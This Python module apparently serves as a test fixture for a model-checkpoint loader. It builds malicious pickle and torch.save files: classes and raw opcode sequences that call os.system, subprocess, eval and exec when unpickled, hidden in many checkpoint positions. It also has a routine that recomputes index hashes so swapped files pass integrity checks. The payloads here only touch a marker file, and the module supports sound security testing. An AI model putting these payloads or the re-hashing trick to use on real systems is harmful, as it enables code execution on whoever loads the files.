"""Files an attacker could put where a checkpoint's are, with every hash made anew so that all of them agree."""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import torch

from ckptd.format.records import index_to_bytes, read_index


def torch_zip(data_pkl: bytes, records: Mapping[str, bytes] | None = None, method: int = 0) -> bytes:
    """An archive as torch.save lays it out."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        archive.writestr("x/data.pkl", data_pkl)
        archive.writestr("x/byteorder", "little")
        for name, data in (records or {}).items():
            archive.writestr(f"x/{name}", data)
        archive.writestr("x/version", "3\n")
    return file.getvalue()


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(function: str, *arguments: bytes) -> bytes:
    """The opcodes that call "module name" with arguments given as opcodes."""
    return b"c" + function.replace(" ", "\n").encode() + b"\n(" + b"".join(arguments) + b"tR"


class Evil:
    """What it unpickles to has run a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        import os

        return os.system, (self.command,)


class EvilState:
    """A harmless call, and the harm when its state is set."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __setstate__(self, state: dict[str, str]) -> None:
        Path(state["marker"]).touch()


class EvilNew(dict[str, str]):
    """The harm is in making the object."""

    def __new__(cls, marker: str = "") -> EvilNew:
        if marker:
            Path(marker).touch()
        return super().__new__(cls)

    def __getnewargs__(self) -> tuple[str]:
        return (self["marker"],)


EMPTY_HOOKS = b"ccollections\nOrderedDict\n)R"


def storage(kind: bytes = b"ctorch\nFloatStorage\n", key: str = "0", count: bytes = b"K\1") -> bytes:
    return b"(" + text("storage") + kind + text(key) + text("cpu") + count + b"tQ"


def tensor(
    place: bytes, shape: bytes = b"K\1\x85", stride: bytes = b"K\1\x85", hooks: bytes = EMPTY_HOOKS
) -> bytes:
    return call("torch._utils _rebuild_tensor_v2", place, b"K\0", shape, stride, b"\x89", hooks)


def values_that_run(marker: Path) -> dict[str, bytes]:
    """Opcodes of values each of which makes the marker file when a trusting unpickler makes it."""
    shell, code = text(f"touch {marker}"), text(f"__import__('pathlib').Path({str(marker)!r}).touch()")
    system = call("posix system", shell)
    nested = text(f"cposix\nsystem\n(S'touch {marker}'\ntR.")
    return {
        "os.system": call("os system", shell),
        "posix.system": system,
        "subprocess": call("subprocess getoutput", shell),
        "builtins.eval": call("builtins eval", code),
        "__builtin__.eval": call("__builtin__ eval", code),
        "builtins.exec": call("builtins exec", code),
        "torch's own shell": call("torch.utils.collect_env run", shell),
        "numpy's own exec": call("numpy.testing._private.utils runstring", code, b"}"),
        "timeit": call("timeit timeit", code, text("pass"), b"ctime\nperf_counter\n", b"K\1"),
        "pickle in a pickle": call("_pickle loads", call("_codecs encode", nested, text("latin1"))),
        "INST": b"(" + shell + b"iposix\nsystem\n",
        "OBJ": b"(cposix\nsystem\n" + shell + b"o",
        "STACK_GLOBAL": text("posix") + text("system") + b"\x93" + shell + b"\x85R",
        "__setstate__": pickle.dumps(EvilState(str(marker)), 2)[2:-1],
        "__new__": pickle.dumps(_evil_new(marker), 2)[2:-1],
        "in a storage's place": tensor(storage(kind=system)),
        "as a storage's key": b"(" + text("storage") + b"ctorch\nFloatStorage\n" + system + text("cpu") + b"K\1tQ",
        "as a persistent id": system + b"Q",
        "as a tensor's hooks": tensor(storage(), hooks=system),
        "as a parameter's tensor": call("torch._utils _rebuild_parameter", system, b"\x89", EMPTY_HOOKS),
        "through a rebuild function": call(
            "torch._tensor _rebuild_from_type_v2", b"cposix\nsystem\n", b"ctorch\nTensor\n", b"(" + shell + b"t", b"}"
        ),
        "as a state_dict's metadata": EMPTY_HOOKS + b"}(" + text("_metadata") + system + b"ub",
        "as a key": b"}(" + system + b"K\1u",
        "in a set": call("__builtin__ set", b"](" + system + b"e"),
    }  # fmt: skip


def _evil_new(marker: Path) -> EvilNew:
    made = EvilNew()
    made["marker"] = str(marker)
    return made


def payload(value: bytes, **fields: bytes) -> bytes:
    """The pickle of a dict as a payload has it, with the value in its model."""
    items = {"model": b"}(" + text("w") + value + b"u", **fields}
    return b"\x80\x02}(" + b"".join(text(name) + opcodes for name, opcodes in items.items()) + b"u."


def other_containers(marker: Path) -> dict[str, bytes]:
    """Whole files that torch.load, when it trusts, takes for what torch.save once wrote."""
    evil = Evil(f"touch {marker}")
    legacy, tar = io.BytesIO(), io.BytesIO()
    torch.save({"model": evil}, legacy, _use_new_zipfile_serialization=False)
    with tarfile.open(fileobj=tar, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            data = pickle.dumps(evil, 2) if name == "pickle" else pickle.dumps(0, 2)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    good = payload(tensor(storage()))
    return {
        "a bare pickle": pickle.dumps(evil),
        "torch's old format": legacy.getvalue(),
        "a tar": tar.getvalue(),
        "TorchScript": torch_zip(good, {"constants.pkl": payload(call("posix system", text(evil.command)))}),
        "protocol 4": torch_zip(pickle.dumps({"model": evil}, 4)),
        "protocol 0": torch_zip(pickle.dumps({"model": evil}, 0)),
    }


# --- planting -------------------------------------------------------------------------------------


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def plant(folder: Path, name: str, data: bytes) -> Path:
    """Put data in the place of a checkpoint's file, and make every hash and size of its index anew."""
    path = folder / name
    path.write_bytes(data)
    if not (folder / "index.json").is_file() or name == "index.json":
        return path
    if b'"ckpt.v1-index"' in (folder / "index.json").read_bytes():
        _rehash_v1(folder)
        return path
    index = read_index(folder)
    shards = tuple(
        replace(s, bytes=len(data), sha256=sha256(data)) if s.path == name else s for s in index.shards
    )
    changes: dict[str, Any] = {"shards": shards}
    if name in ("meta.pt", "tensors.json"):
        field = name.partition(".")[0]
        changes |= {f"{field}_bytes": len(data), f"{field}_sha256": sha256(data)}
    (folder / "index.json").write_bytes(index_to_bytes(replace(index, **changes)))
    return path


def _rehash_v1(folder: Path) -> None:
    index = json.loads((folder / "index.json").read_text())
    index["meta_sha256"] = sha256((folder / "meta.pt").read_bytes())
    for row in index["shards"]:
        row["sha256"] = sha256((folder / row["path"]).read_bytes())
    (folder / "index.json").write_text(json.dumps(index))
